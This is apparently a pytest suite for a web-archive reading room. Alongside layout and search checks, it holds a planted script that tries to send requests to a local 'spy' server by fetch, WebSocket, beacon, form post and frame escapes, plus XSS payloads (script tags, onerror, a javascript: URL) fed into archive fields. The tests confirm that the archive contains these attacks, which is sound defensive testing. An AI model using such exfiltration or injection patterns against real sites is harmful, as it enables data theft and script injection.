"""The reading room of a demo paper in headless Chromium, at a desk and on a phone."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from urllib.parse import urlsplit

import pytest

from demo import gazette
from demo.answer import page
from demo.server import Server
from tests.support.browser import CHROMIUM, MISSING, Browser
from tests.support.crawl_process import crawl
from tests.support.handmade_runs import RUN, article, write_run
from tests.support.serve_process import PYWB, WITHOUT_PYWB, Serving

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM, reason=MISSING),
    pytest.mark.skipif(not PYWB.exists(), reason=WITHOUT_PYWB),
]
DESK, PHONE = (1280, 900), (390, 844)
SLUG = "gulls-learn-the-market-days"
STORY = next(url for url in gazette.expected() if SLUG in url)
TRUTH = gazette.expected()[STORY]
TRAP = "http://trap.example/2026/11/23/the-story-that-bites"


def edited(site):
    """The paper after an editor has changed one word of a story."""
    answer = site[STORY]
    return {**site, STORY: replace(answer, body=answer.body.replace(b"roof", b"chimney"))}


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    folder = tmp_path_factory.mktemp("paper")
    for site in (gazette.site(), edited(gazette.site())):
        with Server(site) as paper:
            run = crawl(folder, "news", "-a", f"url={gazette.HOME}", "-a", "again=1", proxy=paper)
            assert run.exit_code == 0, run.output
    return folder / "store"


@pytest.fixture(scope="module")
def reading_room(store):
    with Serving(store, "--replay-port", "0") as serving:
        yield serving


@pytest.fixture(scope="module")
def browser():
    with Browser() as chromium:
        yield chromium


@pytest.fixture(params=[DESK, PHONE], ids=["desk", "phone"])
def reader(request, browser, reading_room):
    """A tab of which at the end nothing was complained, and that asked the reading room and its player only."""
    tab = browser.page(*request.param)
    tab.width = request.param[0]
    yield tab
    own = reading_room.url
    assert [one for one in tab.complaints if own in one or "http" not in one] == []
    assert {urlsplit(url).hostname for url in tab.requests if not url.startswith("data:")} <= {"127.0.0.1"}


def fits(tab):
    """Whether nothing of the page lies beyond the side of the window."""
    return tab.evaluate("document.documentElement.scrollWidth") <= tab.width


def follow(tab, words):
    """Follows the first link that says these words."""
    tab.evaluate(
        f"[...document.querySelectorAll('a')].find(a => a.textContent.includes({json.dumps(words)})).id = 'followed'"
    )
    tab.click("#followed")


def test_the_front_page_has_the_latest_stories(reader, reading_room):
    reader.go(f"{reading_room.url}/")
    assert "The Reading Room" in reader.text
    assert fits(reader)
    shown = [story for story in gazette.expected().values() if story.headline in reader.text]
    assert len(shown) >= 10
    follow(reader, shown[0].headline)
    assert shown[0].articleBody[:80] in reader.text


def test_a_search_leads_to_an_article_and_all_that_is_known_of_it(reader, reading_room):
    reader.go(f"{reading_room.url}/")
    reader.evaluate("document.querySelector('#q').value = 'gulls roof -crane'")
    reader.click(".search button")
    assert "Nothing matches." in reader.text  # in the latest version it says chimney
    reader.go(f"{reading_room.url}/articles?q=gulls+chimney")
    assert reader.evaluate("[...document.querySelectorAll('mark')].map(mark => mark.textContent)")
    assert fits(reader)
    follow(reader, TRUTH.headline)
    assert TRUTH.headline in reader.text
    assert "sha1:" in reader.text
    assert fits(reader)
    follow(reader, "stripped")
    assert "newsletter" in reader.evaluate("document.querySelector('.cut').textContent")
    assert fits(reader)
    follow(reader, "Versions")
    assert "Captured 2 times." in reader.text
    assert "roof" in reader.evaluate("document.querySelector('del').textContent")
    assert "chimney" in reader.evaluate("document.querySelector('ins').textContent")
    assert fits(reader)


def test_days_and_sections_lead_to_their_articles(reader, reading_room):
    day = TRUTH.datePublished[:10]
    reader.go(f"{reading_room.url}/calendar/{day[:4]}")
    assert fits(reader)
    reader.click(f"a[href='/day/{day}']")
    assert TRUTH.headline in reader.text
    follow(reader, TRUTH.articleSection[0])
    assert TRUTH.headline in reader.text
    assert fits(reader)


PICTURES = """
Promise.all([...document.images].map(image => {
  image.loading = "eager";
  return image.decode().then(() => image.naturalWidth > 0);
})).then(seen => seen.length > 0 && seen.every(Boolean))
"""
"""Whether there are pictures, and all of them can be seen."""


def captured(tab):
    """The frame of the captured page."""
    (frame,) = [frame for address, frame in tab.frames.items() if "/captured/" in address]
    return frame


def test_a_captured_page_looks_as_it_did(reader, reading_room):
    reader.go(f"{reading_room.url}/articles?q=gulls+chimney")
    follow(reader, TRUTH.headline)
    follow(reader, "Captured")
    frame = captured(reader)
    assert fits(reader)
    assert TRUTH.headline in reader.evaluate("document.body.innerText", frame)
    assert reader.evaluate(PICTURES, frame)
    assert not [one for one in reader.complaints if re.search(r"\.jpg|\.png", one)]


def test_a_captured_picture_stands_in_the_clean_article(reader, reading_room):
    reader.go(f"{reading_room.url}/articles?q=gulls+chimney")
    follow(reader, TRUTH.headline)
    assert reader.evaluate(PICTURES)


BITES = """
<script>
  const tried = [];
  const ask = (name, act) => { try { tried.push(`${name}: ${act()}`) } catch (error) { tried.push(`${name}: refused`) } };
  const fetched = url => fetch(url, {mode: "no-cors"}).then(() => tried.push(`${url}: fetched`), () => {});
  const socket = url => new Promise(end => { const one = new WebSocket(url); one.onerror = one.onopen = end });
  window.bite = async () => {
    await Promise.allSettled([fetched("SPY/fetch"), fetched("ROOM/"), fetched("ROOM/articles")]);
    await socket("SPY/socket".replace("http", "ws")).catch(() => {});
    await new Promise(end => { const one = new Image(); one.onload = one.onerror = end; one.src = "SPY/image" });
    ask("beacon", () => navigator.sendBeacon("SPY/beacon", "x"));
    ask("popup", () => window.open("SPY/popup") ? "opened" : "refused");
    ask("script", () => document.body.append(Object.assign(document.createElement("script"), {src: "SPY/script"})));
    ask("frame", () => document.body.append(Object.assign(document.createElement("iframe"), {src: "SPY/frame"})));
    ask("form", () => document.body.appendChild(
      Object.assign(document.createElement("form"), {action: "SPY/form", method: "post"})).submit());
    return tried;
  };
</script>
"""


def test_a_captured_page_that_bites_stays_in_its_frame(browser, reading_room, tmp_path):
    """Its scripts run, and reach neither our pages nor anything beyond the player."""
    with Server({"/favicon.ico": page("")}) as spy:
        script = BITES.replace("SPY", spy.url).replace("ROOM", reading_room.url)
        title = "<title>The story that bites</title>"
        text = "<p>" + "The keeper of the zoo has asked visitors once more not to feed the pages of the register. " * 6
        html = f"{title}<article><h1>The story that bites</h1>{text}</p>{text}</p></article>{script}"
        with Server({TRAP: page(html)}) as site:
            run = crawl(tmp_path, "news", "-a", f"url={TRAP}", proxy=site)
        assert len(run.articles) == 1, run.output
        with Serving(tmp_path / "store", "--replay-port", "0") as serving:
            tab = browser.page(*DESK)
            tab.go(f"{serving.url}/article/{run.manifest['run_id']}/1/captured")
            frame = captured(tab)
            tried = tab.evaluate("window.bite()", frame)
            assert len(tried) >= 3, tried
            assert not [one for one in tried if "opened" in one or f"{serving.url}" in one], tried
            for out in (
                "parent.document.title",
                f"top.location = '{spy.url}/top'",
                f"top.location.href = '{spy.url}/top'",
            ):
                with pytest.raises(RuntimeError, match="SecurityError"):
                    tab.evaluate(f"(0, eval)('window').{out}", frame)
            assert tab.evaluate("document.title").endswith("Reading room")
            assert tab.evaluate("typeof window.RTCPeerConnection", frame) == "undefined"
            address = tab.evaluate("document.querySelector('iframe.replay').src")
            tab.go(address)
            assert "403 Forbidden" in tab.text
        assert spy.requested() == []


NASTY = "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 1'>\u202egnihton"


def test_nothing_of_a_hostile_archive_runs_in_our_pages(browser, tmp_path):
    store = tmp_path / "store"
    image = {"url": "javascript:window.pwned = 1", "caption": NASTY}
    bad = article(
        1, headline=NASTY, articleBody=NASTY, image=[image], articleSection=[NASTY], publisher={"name": NASTY}
    )
    write_run(store, [bad], [{"url": bad["url"], "WARC-Record-ID": "<urn:uuid:1>", "rule": NASTY, "text": NASTY}])
    with Serving(store, "--replay-port", "0") as serving:
        tab = browser.page(*DESK)
        here = f"/article/{RUN}/1"
        for path in ("/", "/articles?q=%3Cscript%3Epwned", here, f"{here}/stripped", f"{here}/versions"):
            tab.go(serving.url + path)
            assert tab.evaluate("window.pwned") is None
            assert "U+202E" in tab.text or "Nothing matches" in tab.text
        assert tab.complaints == []
        assert all(url.startswith(serving.url) for url in tab.requests if not url.startswith("data:"))
